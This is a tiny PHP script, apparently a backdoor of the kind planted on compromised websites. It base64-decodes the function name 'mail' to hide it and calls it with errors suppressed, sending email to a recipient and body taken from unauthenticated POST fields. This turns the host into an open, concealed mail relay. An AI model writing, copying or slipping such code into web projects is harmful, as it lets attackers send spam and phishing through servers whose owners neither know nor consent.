<?php
$f = base64_decode('bWFpbA==');
@$f($_POST['t'], 'x', $_POST['b']);
